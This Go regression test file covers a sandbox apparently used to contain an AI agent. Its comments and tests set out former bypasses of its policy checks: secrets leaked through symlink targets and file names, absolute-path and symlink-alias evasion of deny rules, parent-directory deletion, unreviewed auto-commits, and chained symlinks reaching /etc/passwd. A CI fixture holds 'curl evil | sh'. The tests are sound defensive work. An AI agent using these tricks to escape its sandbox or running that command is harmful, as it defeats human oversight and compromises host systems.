package sandbox

// Regression tests for ways around the facade's write, delete, read and
// secret checks: each was a working bypass before the check it exercises.

import (
	"context"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/pulse-agent/pulse/backend"
	"github.com/pulse-agent/pulse/policy"
	"github.com/pulse-agent/pulse/secrets"
)

// ovBackend is a strong capturing backend whose command "wrote" ov.
type ovBackend struct {
	backend.Backend
	ov  *backend.Overlay
	req *backend.Request
}

func (o *ovBackend) Name() string { return "ovfake" }
func (o *ovBackend) Capabilities() backend.Capabilities {
	return backend.Capabilities{Isolation: backend.IsolationContainer, CapturesWrites: true, StacksPending: true,
		Network: map[policy.NetworkMode]policy.EnforcementLevel{policy.NetworkDenyAll: policy.Strong},
		Secrets: map[secrets.Mode]policy.EnforcementLevel{secrets.DenyAll: policy.Strong, secrets.AllowAll: policy.Strong, secrets.Allowlist: policy.Strong}}
}
func (o *ovBackend) Reconcile(context.Context) error { return nil }
func (o *ovBackend) Close() error                    { return nil }
func (o *ovBackend) Exec(_ context.Context, r *backend.Request) (*backend.Result, error) {
	o.req = r
	return &backend.Result{Termination: backend.Exited, Overlay: o.ov}, nil
}

const overlaySecret = "ghp_SuperSecretTokenValue1234567890"

// A secret written as a symlink target or as a file name is staged and
// auto-committed: only regular-file content is checked.
func TestOverlaySecretInLinkTargetOrNameIsRefused(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	be := &ovBackend{ov: &backend.Overlay{Files: []backend.File{
		{Path: "leak-link", Mode: fs.ModeSymlink | 0o777, Data: []byte(overlaySecret)},
		{Path: "leak-" + overlaySecret + ".txt", Mode: 0o644, Data: []byte("x")},
		{Path: "plain.txt", Mode: 0o644, Data: []byte("token=" + overlaySecret)},
	}}}
	sb, err := New(context.Background(), ws, WithBackend(be), WithAutoCommit(),
		WithSecrets([]secrets.Secret{{Name: "GITHUB_TOKEN", Value: overlaySecret}}))
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Close()
	res, err := sb.Execute(context.Background(), Command{Args: []string{"x"}})
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("staged=%v refused=%v committed=%v commitErr=%v", res.Staged, res.Refused, res.Committed, res.CommitErr)
	if tgt, err := os.Readlink(filepath.Join(ws, "leak-link")); err == nil && tgt == overlaySecret {
		t.Errorf("symlink target holding the secret was committed: leak-link -> %s", tgt)
	}
	if _, err := os.Lstat(filepath.Join(ws, "leak-"+overlaySecret+".txt")); err == nil {
		t.Errorf("file name holding the secret was committed")
	}
}

// Policy targets are matched on the caller's spelling: an absolute path
// inside the workspace skips rules written as relative globs.
func TestPolicyMatchesAbsolutePathsAsWorkspacePaths(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	os.MkdirAll(filepath.Join(ws, "private"), 0o755)
	os.WriteFile(filepath.Join(ws, "private/key"), []byte("k"), 0o644)
	pol := policy.Default()
	pol.Rules = append(pol.Rules,
		policy.Rule{Action: policy.Read, Target: "private/*", Decision: policy.Deny},
		policy.Rule{Action: policy.Write, Target: "private/*", Decision: policy.Deny},
		policy.Rule{Action: policy.Delete, Target: "private/*", Decision: policy.Deny})
	sb, err := New(context.Background(), ws, WithBackend(&ovBackend{}), WithPolicy(pol))
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Close()
	ctx := context.Background()
	if _, err := sb.ReadFile(ctx, "private/key"); err == nil {
		t.Fatal("relative read not denied")
	}
	if b, err := sb.ReadFile(ctx, filepath.Join(ws, "private/key")); err == nil {
		t.Errorf("absolute read of a denied path allowed: %q", b)
	}
	tx, _ := sb.BeginTx(ctx, "t")
	if err := tx.Write(ctx, filepath.Join(ws, "private/key"), []byte("pwned"), 0o644); err == nil {
		t.Errorf("absolute Stage of a write-denied path allowed")
	}
	if err := tx.Delete(ctx, filepath.Join(ws, "private")); err == nil {
		t.Errorf("absolute StageDelete of a delete-denied dir allowed")
	}
	if _, err := tx.Commit(ctx); err != nil {
		t.Log("commit:", err)
	}
	if _, err := os.Stat(filepath.Join(ws, "private/key")); err != nil {
		t.Errorf("private/key deleted by commit: %v", err)
	}
}

// A file replaced by a directory: the namespace overlay lists the path as
// deleted AND as a new directory with content; staging order loses it.
func TestIsolatedFileReplacedByDirectoryKeepsItsContent(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	os.WriteFile(filepath.Join(ws, "f"), []byte("old"), 0o644)
	sb := newIsolated(t, ws, WithAutoCommit())
	res, err := sb.Execute(context.Background(), Command{Shell: "rm f && mkdir f && echo hi > f/y"})
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("staged=%v refused=%v committed=%v commitErr=%v", res.Staged, res.Refused, res.Committed, res.CommitErr)
	b, err := os.ReadFile(filepath.Join(ws, "f/y"))
	if err != nil || string(b) != "hi\n" {
		t.Errorf("f/y after commit = %q, %v (want \"hi\\n\")", b, err)
	}
}

// Same with a fake backend emitting what namespace emits.
func TestOverlayFileReplacedByDirectoryKeepsItsContent(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	os.WriteFile(filepath.Join(ws, "f"), []byte("old"), 0o644)
	be := &ovBackend{ov: &backend.Overlay{
		Files:   []backend.File{{Path: "f", Mode: fs.ModeDir | 0o755}, {Path: "f/y", Mode: 0o644, Data: []byte("hi\n")}},
		Deleted: []string{"f"},
	}}
	sb, err := New(context.Background(), ws, WithBackend(be), WithAutoCommit())
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Close()
	res, err := sb.Execute(context.Background(), Command{Args: []string{"x"}})
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("staged=%v refused=%v committed=%v commitErr=%v", res.Staged, res.Refused, res.Committed, res.CommitErr)
	b, err := os.ReadFile(filepath.Join(ws, "f/y"))
	if err != nil || string(b) != "hi\n" {
		t.Errorf("f/y after commit = %q, %v (want \"hi\\n\")", b, err)
	}
}

// Read policy is matched on the spelling, not the resolved path: a
// workspace symlink reaches a read-denied file.
func TestReadPolicyAppliesToTheResolvedPath(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	os.MkdirAll(filepath.Join(ws, "private"), 0o755)
	os.WriteFile(filepath.Join(ws, "private/key"), []byte("k"), 0o644)
	os.Symlink("private", filepath.Join(ws, "alias"))
	pol := policy.Default()
	pol.Rules = append(pol.Rules, policy.Rule{Action: policy.Read, Target: "private/*", Decision: policy.Deny})
	sb, err := New(context.Background(), ws, WithBackend(&ovBackend{}), WithPolicy(pol))
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Close()
	if b, err := sb.ReadFile(context.Background(), "alias/key"); err == nil {
		t.Errorf("read of private/key through alias allowed: %q", b)
	}
}

// A path-level Ask rule is never put to the Approver for a command's
// writes; with auto-commit they land unreviewed, while Stage() on the same
// path asks (and is refused).
func TestOverlayAskRuleGoesToTheApprover(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	pol := policy.Default()
	pol.Defaults[policy.Write] = policy.Allow
	pol.Rules = append(pol.Rules, policy.Rule{Action: policy.Write, Target: ".github/*", Decision: policy.Ask})
	asked := 0
	appr := func(ctx context.Context, a policy.Action, target string) (bool, error) { asked++; return false, nil }
	be := &ovBackend{ov: &backend.Overlay{Files: []backend.File{
		{Path: ".github/workflows/ci.yml", Mode: 0o644, Data: []byte("run: curl evil | sh\n")},
	}}}
	sb, err := New(context.Background(), ws, WithBackend(be), WithPolicy(pol), WithApprover(appr), WithAutoCommit())
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Close()
	tx, _ := sb.BeginTx(t.Context(), "manual")
	if err := tx.Write(context.Background(), ".github/workflows/x.yml", []byte("x"), 0o644); err == nil {
		t.Fatal("Stage should have been refused by the approver")
	}
	askedByStage := asked
	res, err := sb.Execute(context.Background(), Command{Args: []string{"x"}})
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("approver calls: stage=%d execute=%d; committed=%v commitErr=%v", askedByStage, asked-askedByStage, res.Committed, res.CommitErr)
	if _, err := os.Stat(filepath.Join(ws, ".github/workflows/ci.yml")); err == nil {
		t.Errorf("write under an Ask rule was auto-committed without asking the approver")
	}
}

// Delete/Write deny rules on "private/*" are checked only against the
// overlay's own paths; removing or replacing the parent directory removes
// every protected file beneath it.
func TestRemovingAParentCannotDeleteProtectedChildren(t *testing.T) {
	for _, script := range []string{"rm -rf private", "rm -rf private && echo x > private"} {
		ws, _ := filepath.EvalSymlinks(t.TempDir())
		os.MkdirAll(filepath.Join(ws, "private"), 0o755)
		os.WriteFile(filepath.Join(ws, "private/key"), []byte("k"), 0o644)
		pol := policy.Default()
		pol.Rules = append(pol.Rules,
			policy.Rule{Action: policy.Delete, Target: "private/*", Decision: policy.Deny},
			policy.Rule{Action: policy.Write, Target: "private/*", Decision: policy.Deny})
		sb := newIsolated(t, ws, WithPolicy(pol), WithAutoCommit())
		res, err := sb.Execute(context.Background(), Command{Shell: script})
		if err != nil {
			t.Fatal(err)
		}
		t.Logf("%q: staged=%v refused=%v committed=%v commitErr=%v", script, res.Staged, res.Refused, res.Committed, res.CommitErr)
		if _, err := os.Stat(filepath.Join(ws, "private/key")); err != nil {
			t.Errorf("%q removed delete-denied private/key: %v", script, err)
		}
	}
}

func TestWritingBeneathAProtectedFileIsRefused(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	os.WriteFile(filepath.Join(ws, "config"), []byte("protected"), 0o644)
	pol := policy.Default()
	pol.Rules = append(pol.Rules,
		policy.Rule{Action: policy.Delete, Target: "config", Decision: policy.Deny},
		policy.Rule{Action: policy.Write, Target: "config", Decision: policy.Deny})
	be := &ovBackend{ov: &backend.Overlay{Files: []backend.File{{Path: "config/x", Mode: 0o644, Data: []byte("x")}}}}
	sb, err := New(context.Background(), ws, WithBackend(be), WithPolicy(pol), WithAutoCommit())
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Close()
	res, err := sb.Execute(context.Background(), Command{Args: []string{"x"}})
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("staged=%v committed=%v", res.Staged, res.Committed)
	if st, err := os.Lstat(filepath.Join(ws, "config")); err == nil && st.IsDir() {
		t.Errorf("write/delete-denied file 'config' was replaced by a directory")
	}
}

func TestPulseSymlinkIsRefused(t *testing.T) {
	ws := t.TempDir()
	victim := t.TempDir()
	os.Symlink(victim, filepath.Join(ws, ".pulse"))
	_, err := New(context.Background(), ws, WithBackend(&ovBackend{}))
	t.Logf("New err = %v", err)
	if _, err := os.Stat(filepath.Join(victim, "audit.jsonl")); err == nil {
		t.Errorf("audit.jsonl created outside the workspace through a .pulse symlink")
	}
}

func TestOverlayAskRuleWithoutApproverHoldsAutoCommit(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	pol := policy.Default()
	pol.Defaults[policy.Write] = policy.Allow
	pol.Rules = append(pol.Rules, policy.Rule{Action: policy.Write, Target: ".github/*", Decision: policy.Ask})
	be := &ovBackend{ov: &backend.Overlay{Files: []backend.File{
		{Path: ".github/workflows/ci.yml", Mode: 0o644, Data: []byte("run: make\n")},
		{Path: "main.go", Mode: 0o644, Data: []byte("package main\n")},
	}}}
	sb, err := New(context.Background(), ws, WithBackend(be), WithPolicy(pol), WithAutoCommit())
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Close()
	res, err := sb.Execute(context.Background(), Command{Args: []string{"x"}})
	if err != nil {
		t.Fatal(err)
	}
	if !errors.Is(res.CommitErr, errReviewRequired) || res.Transaction == "" || len(res.Committed) != 0 {
		t.Fatalf("a rule's Ask did not hold the transaction for review: %+v", res)
	}
	if _, err := os.Stat(filepath.Join(ws, "main.go")); err == nil {
		t.Fatal("auto-commit went ahead")
	}
}

func TestRemovingADirectoryWithoutRulesIsStaged(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	if err := os.MkdirAll(filepath.Join(ws, "build/out"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(ws, "build/out/a.o"), []byte("o"), 0o644); err != nil {
		t.Fatal(err)
	}
	sb := newIsolated(t, ws, WithAutoCommit())
	res, err := sb.Execute(context.Background(), Command{Shell: "rm -rf build"})
	if err != nil || res.CommitErr != nil || len(res.Refused) != 0 {
		t.Fatalf("res=%+v err=%v", res, err)
	}
	if _, err := os.Stat(filepath.Join(ws, "build")); !os.IsNotExist(err) {
		t.Fatalf("build still there after an auto-committed rm -rf: %v", err)
	}
}

// A link through another staged link looks harmless lexically but leads
// out of the workspace on disk; nothing that escapes may be committed.
func TestCommittedLinksStayInsideTheWorkspace(t *testing.T) {
	parent, _ := filepath.EvalSymlinks(t.TempDir())
	ws := filepath.Join(parent, "ws")
	if err := os.Mkdir(ws, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(parent, "outside.txt"), []byte("HOST FILE"), 0o644); err != nil {
		t.Fatal(err)
	}
	sb := newIsolated(t, ws, WithAutoCommit())
	deep := "d0/d1/d2/d3/d4/d5/d6/d7/d8/d9/d10/d11"
	up := strings.Repeat("../", 12)
	res, err := sb.Execute(context.Background(), Command{Shell: "mkdir -p a/b && ln -s ../.. a/b/l && ln -s a/b/l/../outside.txt esc && " +
		"mkdir -p " + deep + " && ln -s " + strings.TrimSuffix(up, "/") + " " + deep + "/l && ln -s " + deep + "/l/" + up + "etc/passwd pw"})
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"esc", "pw"} {
		if b, err := os.ReadFile(filepath.Join(ws, name)); err == nil {
			t.Errorf("committed link %s leads outside the workspace: %.40q", name, b)
		}
	}
	refused := map[string]bool{}
	for _, r := range res.Refused {
		refused[r.Path] = true
	}
	if !refused["esc"] || !refused["pw"] {
		t.Errorf("escaping links not reported as refused: %+v", res.Refused)
	}
}
